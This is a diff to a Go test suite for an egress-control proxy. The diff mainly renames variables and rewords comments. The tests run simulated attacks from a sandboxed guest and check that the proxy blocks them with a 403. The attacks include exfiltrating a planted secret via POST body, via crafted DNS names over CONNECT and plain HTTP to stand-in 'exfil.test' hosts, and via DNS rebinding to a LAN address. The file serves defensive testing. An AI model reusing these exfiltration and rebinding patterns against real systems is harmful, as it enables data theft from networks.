@@ -11,22 +11,22 @@ import (
 	"botbottle.dev/bottle-operator/test/story"
 )
 
-// standing are the rules that hold all the time: spoofed names borrow from
-// them, and a name that is allowed leads to the LAN.
+// standingRules apply throughout: attacks use their names in forged Host headers, and
+// one allowed name resolves to an address on the LAN.
 //
-// Names that lead to metadata, loopback, link-local addresses or the gateway
-// are not here: no rule opens these, so that nothing could be taken away.
-// internal/egress and internal/bundleproxy test that none does.
-var standing = []v1alpha1.EgressRule{"allowed.test", "allowed.test:80", "rebind-lan.test:80"}
+// There are no names that resolve to metadata, loopback or link-local addresses or to
+// the gateway. No rule can open these, so there is no barrier to remove.
+// internal/egress and internal/bundleproxy test that.
+var standingRules = []v1alpha1.EgressRule{"allowed.test", "allowed.test:80", "rebind-lan.test:80"}
 
-// ruleAttack is an attack that a rule would let through. Marker stands for the
-// planted secret in what is sent to the bundle.
+// ruleAttack is an attack that a rule would let through. In sent, marker stands for
+// the planted secret.
 type ruleAttack struct {
 	name string
-	// guard is the rule whose absence stops it.
+	// guard is the rule whose absence stops the attack.
 	guard v1alpha1.EgressRule
-	// sent is what the bundle gets. After a CONNECT that was let through, the
-	// secret follows.
+	// sent is what the guest sends to the bundle. After a CONNECT, it sends the
+	// secret through the tunnel.
 	sent string
 }
 
@@ -48,7 +48,7 @@ var ruleAttacks = []ruleAttack{
 	{"exfiltration by body", "denied.test:80", post("http://denied.test/", "denied.test", marker)},
 	{"exfiltration by a crafted DNS name, CONNECT", "*.exfil.test:443", connect(marker+".exfil.test:443", marker+".exfil.test:443")},
 	{"exfiltration by a crafted DNS name, plain HTTP", "*.exfil.test:80", get("http://"+marker+".exfil.test/", marker+".exfil.test")},
-	{"DNS rebinding: an allowed name that leads to the LAN", "10.77.0.1:80", get("http://rebind-lan.test/"+marker, "rebind-lan.test")},
+	{"DNS rebinding: an allowed name that resolves to the LAN", "10.77.0.1:80", get("http://rebind-lan.test/"+marker, "rebind-lan.test")},
 }
 
 func request(line, host, body string, headers ...string) string {
@@ -61,18 +61,18 @@ func get(url, host string, headers ...string) string {
 }
 func connect(authority, host string) string { return request("CONNECT "+authority, host, "") }
 func post(url, host, body string) string {
-	// The marker stands for something longer.
+	// The secret is longer than the marker that stands for it.
 	return request("POST "+url, host, body, fmt.Sprintf("Content-Length: %d", len(plant(body, "00000000", 0))))
 }
 
-// plant puts a secret in the marker's place.
+// plant replaces the marker with a secret.
 func plant(text, run string, i int) string {
 	return strings.ReplaceAll(text, marker, fmt.Sprintf("s3cr3t%sn%02dz", run, i))
 }
 
 func testRules(t *testing.T, s *site) {
 	t.Run("control, allowed", func(t *testing.T) {
-		guards := standing
+		guards := standingRules
 		seen := map[v1alpha1.EgressRule]bool{}
 		for _, a := range ruleAttacks {
 			if !seen[a.guard] {
@@ -82,24 +82,24 @@ func testRules(t *testing.T, s *site) {
 		}
 		for i, o := range s.tryRules(t, guards) {
 			if !o.reached {
-				t.Errorf("control: %s, with the rule %s: not reached, so that its absence is not tested; it was told %q", ruleAttacks[i].name, ruleAttacks[i].guard, o.told)
+				t.Errorf("control: %s, with the rule %s: not reached, so its absence is not tested; the guest printed %q", ruleAttacks[i].name, ruleAttacks[i].guard, o.output)
 			}
 		}
 	})
 	t.Run("denied", func(t *testing.T) {
-		for i, o := range s.tryRules(t, standing) {
+		for i, o := range s.tryRules(t, standingRules) {
 			a := ruleAttacks[i]
 			if o.reached {
-				t.Errorf("ESCAPE: %s, from the guest of Bottle %s: reached: %s; want it stopped by the absence of the bundle rule %s", a.name, s.ruled.Name, o.how, a.guard)
-			} else if status, _, _ := strings.Cut(o.told, "\n"); !strings.Contains(status, " 403 ") {
-				t.Errorf("%s: the bundle answered %q, want 403", a.name, o.told)
+				t.Errorf("ESCAPE: %s, from the guest of Bottle %s: reached: %s; want it stopped by the absence of the bundle rule %s", a.name, s.ruled.Name, o.evidence, a.guard)
+			} else if status, _, _ := strings.Cut(o.output, "\n"); !strings.Contains(status, " 403 ") {
+				t.Errorf("%s: the bundle answered %q, want 403", a.name, o.output)
 			}
 		}
 	})
 }
 
-// tryRules puts rules in force, runs all attacks in the guest and returns how
-// they ended. The planted secret tells: where it is seen, the attack succeeded.
+// tryRules applies rules, runs all attacks in the guest and returns how they ended. An
+// attack succeeded if its secret arrived in the outside world.
 func (s *site) tryRules(t *testing.T, rules []v1alpha1.EgressRule) []outcome {
 	t.Helper()
 	s.Change(t, s.ruled, func() { s.ruled.Spec.Egress = &v1alpha1.Egress{Allow: rules} })
@@ -118,6 +118,6 @@ func (s *site) tryRules(t *testing.T, rules []v1alpha1.EgressRule) []outcome {
 		}
 		batch[i] = attempt{name: a.name, marker: secret, sh: sh, answered: "the outside world"}
 	}
-	told := parse(t, s.Guest(t, s.ruled, "sh", "-c", script(batch, s.patience, bundleIP(s.ruled))), len(batch))
-	return judge(batch, told, s.world(t))
+	outputs := parse(t, s.Guest(t, s.ruled, "sh", "-c", script(batch, s.attackTimeout, bundleIP(s.ruled))), len(batch))
+	return judge(batch, outputs, s.world(t))
 }
